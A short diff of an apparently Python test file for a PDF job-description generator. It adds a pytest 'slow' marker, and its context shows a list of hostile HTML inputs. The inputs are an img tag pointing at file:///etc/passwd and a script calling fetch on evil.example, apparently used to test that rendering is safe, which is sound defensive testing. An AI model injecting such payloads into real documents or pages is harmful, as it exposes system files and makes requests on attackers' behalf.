@@ -14,6 +14,8 @@ from app.documents.job_description import job_description_pdf
 from tests.support.pdf import Pdf
 from tests.support.profiles import DOCUMENTS, VOCABULARY, sample_profile
 
+pytestmark = pytest.mark.slow  # prints papers
+
 HOSTILE = (
     "<img src=file:///etc/passwd>",
     "<script>fetch('http://evil.example')</script>",
